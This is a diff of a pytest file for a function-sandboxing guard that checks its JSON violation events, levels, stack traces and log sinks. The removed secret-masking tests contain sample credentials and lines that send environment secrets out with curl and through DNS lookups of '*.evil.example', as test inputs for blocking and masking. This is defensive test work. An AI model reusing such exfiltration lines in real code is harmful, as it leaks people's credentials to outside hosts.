@@ -1,4 +1,5 @@
-"""Events: one JSON object a line in one write, with the keys, levels and counts that the contract promises."""
+"""Events: one JSON object a line in one write, with the keys, levels and counts that the contract
+promises."""
 
 from __future__ import annotations
 
@@ -12,25 +13,47 @@ from typing import Any
 
 import pytest
 
-from fshield.local.emulator import Function
-from tests.contract.helpers import OUTSIDE, PYTHON, build, copy_layer, core_of, executable, launch, policy_of
-from tests.support import LAUNCHER, LAYER, ROOT, Guarded, clean_environment, policy_file, rules, run_guarded
+from tests.contract.acting import ALERT, BLOCK, attempt, python
+from tests.contract.helpers import (
+    OUTSIDE,
+    PYTHON,
+    build,
+    copy_layer,
+    core_of,
+    executable,
+    launch,
+    policy_of,
+)
+from tests.support import (
+    LAUNCHER,
+    Event,
+    clean_environment,
+    policy_file,
+    rules,
+    run_guarded,
+)
 
-BLOCK = rules("block", "block", "block", "block")
-ALERT = rules("alert", "alert", "alert", "alert")
 RFC3339 = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z")
 KEYS = [
-    "function_shield", "event", "event_version", "timestamp", "level", "message", "policy", "mode", "policy_mode",
-    "policy_name", "rule", "reason", "details", "requestId", "ring", "count", "origin", "pid",
-]  # fmt: skip
-
-
-def python(code: str, policy: Any = BLOCK, **more: Any) -> Guarded:
-    return run_guarded([PYTHON, "-c", code], policy=policy, **more)
-
-
-def attempt(act: str) -> str:
-    return f"import os, socket, subprocess, sys\ntry: {act}\nexcept OSError as error: print(type(error).__name__)"
+    "function_shield",
+    "event",
+    "event_version",
+    "timestamp",
+    "level",
+    "message",
+    "policy",
+    "mode",
+    "policy_mode",
+    "policy_name",
+    "rule",
+    "reason",
+    "details",
+    "requestId",
+    "ring",
+    "count",
+    "origin",
+    "pid",
+]
 
 
 # ---- one event ----
@@ -47,11 +70,18 @@ def test_a_violation_has_every_key(tmp_path: Path) -> None:
     result = python(code, env={"PYTHONPATH": str(tmp_path)})
     (event,) = result.violations
     assert set(KEYS) <= set(event)
-    assert (event["function_shield"], event["event"], event["event_version"]) == (True, "violation", 1)
+    assert (event["function_shield"], event["event"], event["event_version"]) == (
+        True,
+        "violation",
+        1,
+    )
     assert RFC3339.fullmatch(event["timestamp"])
     assert (event["level"], event["policy"], event["mode"], event["policy_mode"]) == (
-        "ERROR", "outbound_connectivity", "block", "block",
-    )  # fmt: skip
+        "ERROR",
+        "outbound_connectivity",
+        "block",
+        "block",
+    )
     assert (event["policy_name"], event["rule"]) == ("test", None)
     assert event["reason"] == "no_rule"
     assert event["details"] == {"host": None, "ip": OUTSIDE, "port": 4443, "protocol": "tcp"}
@@ -64,9 +94,12 @@ def test_a_violation_has_every_key(tmp_path: Path) -> None:
 
 
 def test_the_stack_reaches_who_asked(tmp_path: Path) -> None:
-    """Libraries that carry a request are many frames deep: the eight frames name every package on the way."""
+    """Libraries that carry a request are many frames deep: the eight frames name every package on
+    the way."""
     packages = ("carrier", "client", "asker")
-    for name, inner in zip(packages, ("open('/tmp/x', 'w')", "carrier.go(9)", "client.go(9)"), strict=True):
+    for name, inner in zip(
+        packages, ("open('/tmp/x', 'w')", "carrier.go(9)", "client.go(9)"), strict=True
+    ):
         (tmp_path / "site-packages" / name).mkdir(parents=True)
         (tmp_path / "site-packages" / name / "__init__.py").write_text(
             f"import {inner.split('.')[0] if '.go' in inner else 'os'}\n\n\ndef go(n):\n    if n:\n"
@@ -75,11 +108,17 @@ def test_the_stack_reaches_who_asked(tmp_path: Path) -> None:
     code = "import asker\ntry: asker.go(9)\nexcept OSError: pass"
     result = python(code, env={"PYTHONPATH": str(tmp_path / "site-packages")})
     (event,) = result.violations
-    stack = [frame.rpartition(" ")[0].replace(f"{tmp_path}/site-packages/", "") for frame in event["origin"]["stack"]]
+    stack = [
+        frame.rpartition(" ")[0].replace(f"{tmp_path}/site-packages/", "")
+        for frame in event["origin"]["stack"]
+    ]
     assert stack == [
-        "carrier/__init__.py:7", *["carrier/__init__.py:6"] * 3,
-        "client/__init__.py:7", "asker/__init__.py:7", "<string>:2",
-    ]  # fmt: skip
+        "carrier/__init__.py:7",
+        *["carrier/__init__.py:6"] * 3,
+        "client/__init__.py:7",
+        "asker/__init__.py:7",
+        "<string>:2",
+    ]
 
 
 def test_details_of_each_rule(tmp_path: Path) -> None:
@@ -113,7 +152,9 @@ def test_details_of_each_rule(tmp_path: Path) -> None:
 def test_addresses_are_normalised(address: str, shown: dict[str, Any]) -> None:
     family = "AF_INET6" if "::" in address else "AF_INET"
     for kind, protocol in (("SOCK_STREAM", "tcp"), ("SOCK_DGRAM", "udp")):
-        result = python(attempt(f"socket.socket(socket.{family}, socket.{kind}).connect({address})"))
+        result = python(
+            attempt(f"socket.socket(socket.{family}, socket.{kind}).connect({address})")
+        )
         (event,) = result.violations
         assert {**event["details"], "host": None} == {**shown, "host": None, "protocol": protocol}
 
@@ -135,9 +176,9 @@ def test_the_rule_that_decided_is_file_and_line(tmp_path: Path, tmp_name: Path) 
         "events: {allowed: first}\n"
     )
     code = (
-        f"import os, socket\nfor act in (lambda: os.stat('/tmp'), lambda: open('{tmp_name}/x', 'w'),\n"
-        f"  lambda: open('{tmp_name}/y', 'w'), lambda: socket.getaddrinfo('allowed.example', 443)):\n"
-        "  try: act()\n  except OSError: pass\n"
+        f"import os, socket\nfor act in (lambda: os.stat('/tmp'), lambda: open('{tmp_name}/x',"
+        f" 'w'),\n  lambda: open('{tmp_name}/y', 'w'), lambda:"
+        " socket.getaddrinfo('allowed.example', 443)):\n  try: act()\n  except OSError: pass\n"
     )
     result = python(code, source)
     allowed = [event for event in result.events if event["event"] == "allowed"]
@@ -154,17 +195,32 @@ def test_no_allowed_events_unless_asked_for() -> None:
 
 
 def test_levels() -> None:
-    assert [event["level"] for event in python(attempt("os.listdir('/tmp')")).violations] == ["ERROR"]
-    assert [event["level"] for event in python(attempt("os.listdir('/tmp')"), ALERT).violations] == ["WARN"]
+    assert [event["level"] for event in python(attempt("os.listdir('/tmp')")).violations] == [
+        "ERROR"
+    ]
+    assert [
+        event["level"] for event in python(attempt("os.listdir('/tmp')"), ALERT).violations
+    ] == ["WARN"]
     assert [event["level"] for event in python("pass").events] == ["INFO"]
     assert [event["level"] for event in launch(["no-such-command"]).events] == ["FATAL"]
-    assert [event["level"] for event in launch(["/bin/true"], env={"FUNCTION_SHIELD_MODE": "off"}).events] == ["FATAL"]
+    assert [
+        event["level"]
+        for event in launch(["/bin/true"], env={"FUNCTION_SHIELD_MODE": "off"}).events
+    ] == ["FATAL"]
 
 
 def test_armed() -> None:
     (event,) = launch([PYTHON, "-c", "pass"]).events
     assert event["event"] == "armed"
-    assert {"version", "policy_name", "policy_sha256", "rings", "runtime", "timestamp", "pid"} <= set(event)
+    assert {
+        "version",
+        "policy_name",
+        "policy_sha256",
+        "rings",
+        "runtime",
+        "timestamp",
+        "pid",
+    } <= set(event)
     assert event["rings"] == ["interpreter", "libc"]
     assert re.fullmatch(r"python3\.\d+t?", event["runtime"])
     assert re.fullmatch(r"[0-9a-f]{64}", event["policy_sha256"])
@@ -191,19 +247,25 @@ HUGE = "x" * 250
         "socket.getaddrinfo('a\\nb', 443)",
         "socket.getaddrinfo(b'\\xff\\xfe.example', 443)",
         "socket.getaddrinfo(b'a' * 5000, 443)",
-        "exec(compile('def ' + 'f' * 5000 + '(): open(\"/tmp/x\")\\n' + 'f' * 5000 + '()', 'file' * 2000, 'exec'))",
+        (
+            "exec(compile('def ' + 'f' * 5000 + '(): open(\"/tmp/x\")\\n' + 'f' * 5000 + '()',"
+            " 'file' * 2000, 'exec'))"
+        ),
         "exec(compile('open(\"/tmp/x\")', 'a\\nb\\xff\\udcff', 'exec'))",
     ],
 )
 @pytest.mark.parametrize("mode", ["block", "alert"])
-def test_one_valid_line_of_at_most_4096_bytes(act: str, mode: str, tmp_path: Path, tmp_name: Path) -> None:
+def test_one_valid_line_of_at_most_4096_bytes(
+    act: str, mode: str, tmp_path: Path, tmp_name: Path
+) -> None:
     log = tmp_path / "log"
-    # Folders that are there, as deep as a path can be: where a folder is missing there is nothing to judge.
+    # Folders that are there, as deep as a path can be: where a folder is missing there is nothing
+    # to judge.
     code = (
-        f"def deep(name):\n"
+        "def deep(name):\n"
         f"    path = {str(tmp_name)!r}\n"
-        f"    while len(path) + len(name) + 5 < 4000: path += name\n"
-        f"    return path + '/last'\n" + attempt(act) + "\nexcept ValueError: pass"
+        "    while len(path) + len(name) + 5 < 4000: path += name\n"
+        "    return path + '/last'\n" + attempt(act) + "\nexcept ValueError: pass"
     )
     if "deep('" in act:
         prepare = code.replace(act, act.replace("os.mkdir(", "os.makedirs(os.path.dirname(") + ")")
@@ -227,7 +289,10 @@ def test_one_valid_line_of_at_most_4096_bytes(act: str, mode: str, tmp_path: Pat
 
 def test_one_write_each(tmp_path: Path) -> None:
     """A datagram socket keeps writes apart: each must hold one whole line."""
-    code = "import os\nfor n in range(20):\n  try: os.mkdir(f'/tmp/function-shield-{n}')\n  except OSError: pass"
+    code = (
+        "import os\nfor n in range(20):\n  try: os.mkdir(f'/tmp/function-shield-{n}')\n  except"
+        " OSError: pass"
+    )
     ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
     with ours, theirs:
         ours.settimeout(10)
@@ -244,7 +309,8 @@ def test_one_write_each(tmp_path: Path) -> None:
             json.loads(data)
 
 
-def test_threads_and_children_do_not_mix_their_lines() -> None:
+@pytest.mark.parametrize("sink", ["pipe", "file"])
+def test_threads_and_children_do_not_mix_their_lines(sink: str, tmp_path: Path) -> None:
     code = (
         "import os, threading\n"
         "def act(who):\n"
@@ -256,14 +322,24 @@ def test_threads_and_children_do_not_mix_their_lines() -> None:
         "[thread.start() for thread in threads]; [thread.join() for thread in threads]\n"
         "if all(pids): [os.waitpid(pid, 0) for pid in pids]"
     )
-    result = python(code, rules(tmp="block"))
+    file = tmp_path / "events"
+    env = {"FUNCTION_SHIELD_EVENTS": str(file)} if sink == "file" else {}
+    result = python(code, rules(tmp="block"), env=env)
     assert result.stderr == "", "every line of ours is whole"
     assert result.returncode == 0
-    streams: dict[tuple[int, str], list[int]] = {}
-    for event in result.events:
-        streams.setdefault((event["pid"], event["nonce"]), []).append(event["seq"])
+    lines = file.read_text().splitlines() if sink == "file" else []
+    events = [json.loads(line) for line in lines] or result.events
+    streams: dict[tuple[int, str], list[Event]] = {}
+    for event in events:
+        streams.setdefault((event["pid"], event["nonce"]), []).append(event)
     assert len(streams) >= 4
-    assert all(sorted(numbers) == list(range(len(numbers))) for numbers in streams.values())
+    for stream in streams.values():
+        numbers = {event["seq"] for event in stream}
+        assert len(numbers) == len(stream)
+        # A reader of the pipe may be slow: what it missed is told.
+        missed = max(numbers) + 1 - len(numbers)
+        assert missed == sum(event.get("lost", 0) for event in stream)
+        assert missed == 0 or sink == "pipe"
 
 
 def test_the_sequence_and_the_nonce() -> None:
@@ -286,13 +362,18 @@ def test_stderr_stdout_and_path(tmp_path: Path) -> None:
         assert (result.stdout, result.stderr, len(result.events)) == ("out\n", "err\n", 1)
     result = python(code, env={"FUNCTION_SHIELD_EVENTS": "stdout"})
     assert (
-        result.stderr == "err\n" and result.stdout.startswith('{"function_shield":true') and "\nout\n" in result.stdout
+        result.stderr == "err\n"
+        and result.stdout.startswith('{"function_shield":true')
+        and "\nout\n" in result.stdout
     )
     log = tmp_path / "a log: with, odd name"
     for _ in range(2):
         result = python(code, env={"FUNCTION_SHIELD_EVENTS": str(log)})
         assert (result.stdout, result.stderr) == ("out\n", "err\n")
-    assert [json.loads(line)["event"] for line in log.read_text().splitlines()] == ["armed", "armed"], "appended"
+    assert [json.loads(line)["event"] for line in log.read_text().splitlines()] == [
+        "armed",
+        "armed",
+    ], "appended"
     python(code, env={"FUNCTION_SHIELD_EVENTS": "relative.log"}, cwd=tmp_path)
     assert (tmp_path / "relative.log").exists()
 
@@ -313,13 +394,17 @@ def test_a_path_under_tmp(tmp_name: Path) -> None:
     code = attempt(f"open({str(tmp_name)!r}, 'a')")
     result = python(code, env={"FUNCTION_SHIELD_EVENTS": str(tmp_name)})
     assert result.stdout == "PolicyViolation\n"
-    assert [json.loads(line)["event"] for line in tmp_name.read_text().splitlines()] == ["armed", "violation"]
+    assert [json.loads(line)["event"] for line in tmp_name.read_text().splitlines()] == [
+        "armed",
+        "violation",
+    ]
 
 
 def test_the_function_redirects_its_own_stderr(tmp_path: Path) -> None:
     """Events go on to where stderr was at the start."""
-    code = f"import os\nos.dup2(os.open({str(tmp_path / 'own')!r}, os.O_CREAT | os.O_WRONLY), 2)\n" + attempt(
-        "os.listdir('/tmp')"
+    code = (
+        f"import os\nos.dup2(os.open({str(tmp_path / 'own')!r}, os.O_CREAT | os.O_WRONLY), 2)\n"
+        + attempt("os.listdir('/tmp')")
     )
     result = python(code)
     assert len(result.violations) == 1
@@ -331,9 +416,15 @@ def test_the_function_redirects_its_own_stderr(tmp_path: Path) -> None:
 def test_a_reader_that_went_away_does_not_kill_the_function() -> None:
     with subprocess.Popen(
         [LAUNCHER, PYTHON, "-c", "import sys; sys.stdin.read(1)\n" + attempt("os.listdir('/tmp')")],
-        env=clean_environment(), stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
-    ) as process:  # fmt: skip
-        assert process.stderr is not None and process.stdin is not None and process.stdout is not None
+        env=clean_environment(),
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    ) as process:
+        assert (
+            process.stderr is not None and process.stdin is not None and process.stdout is not None
+        )
         process.stderr.readline()
         process.stderr.close()
         process.stdin.write("x")
@@ -343,7 +434,8 @@ def test_a_reader_that_went_away_does_not_kill_the_function() -> None:
 
 
 def test_a_reader_that_is_slow() -> None:
-    """A full non-blocking pipe delays the function by a bounded time, and what was lost is counted."""
+    """A full non-blocking pipe delays the function by a bounded time, and what was lost is
+    counted."""
     code = (
         "import fcntl, os, time\n"
         "fcntl.fcntl(2, fcntl.F_SETFL, fcntl.fcntl(2, fcntl.F_GETFL) | os.O_NONBLOCK)\n"
@@ -356,10 +448,16 @@ def test_a_reader_that_is_slow() -> None:
         "try: os.mkdir('/tmp/function-shield-last')\nexcept OSError: pass\n"
     )
     with subprocess.Popen(
-        [LAUNCHER, PYTHON, "-c", code], env=clean_environment(),
-        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
-    ) as process:  # fmt: skip
-        assert process.stderr is not None and process.stdin is not None and process.stdout is not None
+        [LAUNCHER, PYTHON, "-c", code],
+        env=clean_environment(),
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    ) as process:
+        assert (
+            process.stderr is not None and process.stdin is not None and process.stdout is not None
+        )
         assert process.stdout.readline() == "done True\n"
         text = os.read(process.stderr.fileno(), 1 << 20).decode()
         process.stdin.write("x")
@@ -370,155 +468,18 @@ def test_a_reader_that_is_slow() -> None:
     assert lost > 0 and len(events) + lost == 102
 
 
-# ---- secrets ----
-
-
-def test_secrets_are_masked() -> None:
-    env = {
-        "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG",
-        "AWS_SESSION_TOKEN": "IQoJb3JpZ2luX2VjE",
-        "DB_PASSWORD": "correct horse",
-        "stripe_api_key": "sk_live_abcdef",
-        "PLAIN": "plain-value",
-    }
-    secrets = [value for name, value in env.items() if name != "PLAIN"]
-    code = (
-        "import os, socket, subprocess\n"
-        f"for value in {list(env.values())!r}:\n"
-        "  for act in (lambda: open('/tmp/' + value), lambda: os.mkdir('/tmp/function-shield-a' + value + 'b'),\n"
-        "              lambda: subprocess.run(['/usr/bin/curl', '-d', value, 'http://x']),\n"
-        "              lambda: socket.getaddrinfo(value.replace('/', '-').replace(' ', '-') + '.evil.example', 80),\n"
-        "              lambda: exec(compile('open(\"/tmp/x\")', value, 'exec'))):\n"
-        "    try: act()\n    except OSError: pass\n"
-    )
-    for policy in (BLOCK, ALERT):
-        result = run_guarded([PYTHON, "-c", code], policy=policy, env=env, timeout=60)
-        shown = json.dumps(result.violations)
-        assert len(result.violations) > 10
-        for secret in secrets:
-            assert secret not in shown
-        assert "***" in shown and "plain-value" in shown
-
-
-def test_more_secrets_than_are_kept_in_full() -> None:
-    """What there is no room for is known by its beginning, and the text is masked from there."""
-    env = {f"TOKEN_{number:03}": f"value-{number:03}-{'x' * 20}" for number in range(100)} | {"PLAIN": "plain-value"}
-    code = (
-        "import os\n"
-        f"for value in {list(env.values())!r} + ['value-0']:\n"
-        "  try: open('/tmp/before-' + value + '-behind')\n  except OSError: pass\n"
-    )
-    result = run_guarded([PYTHON, "-c", code], policy=BLOCK, env=env, timeout=60)
-    shown = json.dumps(result.violations)
-    assert not [value for name, value in env.items() if name != "PLAIN" and value[6:] in shown]
-    assert "before-***" in shown and "before-plain-value-behind" in shown and "before-value-0-behind" in shown
-
-
-def test_with_too_many_secrets_every_text_is_masked() -> None:
-    env = {f"TOKEN_{number:03}": f"value-{number:03}-{'x' * 20}" for number in range(200)}
-    code = "try: open('/tmp/' + 'value-199-' + 20 * 'x')\nexcept OSError: pass"
-    result = run_guarded([PYTHON, "-c", code], policy=BLOCK, env=env, timeout=60)
-    written = [line for line in (result.stderr + json.dumps(result.events)).splitlines() if "function_shield" in line]
-    assert written and "value-199" not in "".join(written) and "***" in "".join(written)
-
-
-@pytest.mark.parametrize("count", [1, 60, 200])
-def test_a_childs_events_mask_its_parents_secrets(count: int) -> None:
-    """A child that was given another environment may still be given the values."""
-    env = {f"TOKEN_{number:03}": f"value-{number:03}-{'x' * 20}" for number in range(count)}
-    inner = "import sys\ntry: open('/tmp/a-' + sys.argv[1] + '-b')\nexcept OSError: pass"
-    code = (
-        "import subprocess, sys\n"
-        f"for value in {list(env.values())[-1:]!r}:\n"
-        f"  subprocess.run([sys.executable, '-c', {inner!r}, value], env={{}}, check=True)\n"
-    )
-    policy = rules(tmp="block", process="allow")
-    result = run_guarded([PYTHON, "-c", code], policy=policy, env=env, timeout=60)
-    shown = result.stderr + json.dumps(result.events)
-    assert [event for event in result.events if event["event"] == "violation"]
-    assert "***" in shown and f"value-{count - 1:03}" not in shown
-
-
-def test_a_secret_in_a_refusal() -> None:
-    """The launcher's own sentence may quote a variable that somebody filled in wrongly."""
-    env = {"DB_PASSWORD": "correct-horse-battery", "FUNCTION_SHIELD_POLICY": "correct-horse-battery"}
-    result = launch(["/bin/true"], env=env)
-    assert result.returncode == 78
-    assert "correct-horse-battery" not in json.dumps(result.events)
-
-
-# ---- counts ----
-
-
-def test_repeats_are_counted_once_the_process_has_no_invocations() -> None:
-    code = "import os\nfor _ in range(1000):\n  try: os.listdir('/tmp')\n  except OSError: pass"
-    result = python(code)
-    assert 1 <= len(result.violations) <= 2
-    assert result.violations[0]["count"] == 1
-
-
-def test_kinds_are_told_apart() -> None:
-    code = (
-        "import os\n"
-        "def one(path):\n  try: os.listdir(path)\n  except OSError: pass\n"
-        "for path in ('/tmp', '/tmp/a', '/tmp', '/tmp/b', '/tmp/a'): one(path)\n"
-    )
-    paths = [event["details"]["path"] for event in python(code).violations]
-    assert paths[:3] == ["/tmp", "/tmp/a", "/tmp/b"]
-
-
-FUNCTION = """
-import os, socket
-def handler(event, context):
-    for _ in range(event["times"]):
-        try: open("/tmp/function-shield-nonexistent")
-        except OSError: pass
-    try: os.mkdir("/tmp/function-shield-" + event["name"])
-    except OSError: pass
-    return context.aws_request_id
-"""
-
-
-@pytest.fixture(scope="module")
-def invocations(tmp_path_factory: pytest.TempPathFactory) -> list[Any]:
-    """Three invocations of one function under the real runtime client."""
-    folder = tmp_path_factory.mktemp("function")
-    (folder / "app.py").write_text(FUNCTION)
-    with Function(
-        folder, "app.handler", python=Path(ROOT / ".venv/bin/python"), layer=LAYER, policy="default"
-    ) as function:
-        return [function.invoke({"times": times, "name": f"n{times}"}) for times in (5, 1, 3)]
-
-
-def test_request_ids(invocations: list[Any]) -> None:
-    seen = set()
-    for invocation in invocations:
-        assert invocation.error is None, invocation.error
-        violations = [event for event in invocation.events if event["event"] == "violation"]
-        assert violations
-        assert {event["requestId"] for event in violations} == {invocation.response}
-        seen.add(invocation.response)
-    assert len(seen) == 3
-
-
-def test_counts_are_written_when_the_invocation_ends(invocations: list[Any]) -> None:
-    counts = [
-        [event["count"] for event in invocation.events
-         if event["event"] == "violation" and event["details"]["path"] == "/tmp/function-shield-nonexistent"]
-        for invocation in invocations
-    ]  # fmt: skip
-    assert [sum(numbers) for numbers in counts] == [5, 1, 3]
-    assert counts[0] == [1, 4], "the first in full, the rest as one count"
-    assert len(counts[2]) == 1
-
-
 # ---- self-test ----
 
 
 def test_self_test(tmp_path: Path) -> None:
     for argv in (["--self-test"], ["--self-test", PYTHON], ["--self-test", "/bin/true"]):
         done = subprocess.run(
-            [LAUNCHER, *argv], env=clean_environment(), capture_output=True, text=True, timeout=30, check=False
+            [LAUNCHER, *argv],
+            env=clean_environment(),
+            capture_output=True,
+            text=True,
+            timeout=30,
+            check=False,
         )
         assert (done.returncode, done.stderr) == (0, ""), done
         answer = json.loads(done.stdout)
@@ -543,7 +504,9 @@ def test_self_test_of_what_is_broken(tmp_path: Path, broken: str) -> None:
         env["FUNCTION_SHIELD_POLICY"] = "no-such-policy"
     else:
         env["FUNCTION_SHIELD_MODE"] = "nonsense"
-    done = subprocess.run(argv, env=clean_environment(env), capture_output=True, text=True, timeout=30, check=False)
+    done = subprocess.run(
+        argv, env=clean_environment(env), capture_output=True, text=True, timeout=30, check=False
+    )
     assert (done.returncode, done.stdout) == (78, "")
     assert json.loads(done.stderr)["event"] == "refused"
 
@@ -551,7 +514,11 @@ def test_self_test_of_what_is_broken(tmp_path: Path, broken: str) -> None:
 def test_self_test_does_not_run_the_command(tmp_path: Path) -> None:
     made = tmp_path / "made"
     script = executable(tmp_path / "script", f"#!/bin/sh\ntouch {made}\n")
-    for command in ([script], [PYTHON, "-c", f"open({str(made)!r}, 'w')"], [build("acts.c", "acts"), "create", made]):
+    for command in (
+        [script],
+        [PYTHON, "-c", f"open({str(made)!r}, 'w')"],
+        [build("acts.c", "acts"), "create", made],
+    ):
         done = subprocess.run(
             [LAUNCHER, "--self-test", *map(str, command)],
             env=clean_environment(),
